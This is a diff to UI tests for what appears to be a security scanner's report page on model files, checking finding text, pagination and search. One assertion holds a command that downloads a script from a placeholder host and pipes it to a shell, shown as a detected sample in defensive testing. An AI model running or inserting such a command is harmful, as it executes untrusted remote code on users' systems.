@@ -23,6 +23,9 @@ describe('the page', () => {
     expect(text).toContain("os.system('curl -s https://example.org/x | sh')");
     expect(text).toContain('archive/outer.zip!/inner.pkl');
     expect(text).toContain('at byte 1,204,224 (0x126000), 4,096 long');
+    expect(text).toContain('How it loads');
+    expect(text).toContain('only with trust_remote_code=True');
+    expect(text).toContain('by default: there is no flag against it');
     expect(text).toContain('Only files were examined');
     expect(text).toContain('a symbolic link that leads out of the subject');
     expect(text).toContain('95% interval 0.874 to 0.941');
@@ -121,7 +124,7 @@ describe('the page', () => {
     expect(await page.locator('article').count()).toBe(50);
     await page.getByRole('button', { name: 'Show 50 more of 9,950 findings' }).click();
     expect(await page.locator('article').count()).toBe(100);
-    expect(await page.locator('tbody tr').count()).toBe(100);
+    expect(await page.locator('.files tbody tr').count()).toBe(100);
     await page.getByRole('searchbox', { name: 'Search', exact: true }).fill('folder/4999.pkl');
     await page.getByText('2 of 10,000 findings').waitFor();
     expect(await page.locator('article').count()).toBe(2);
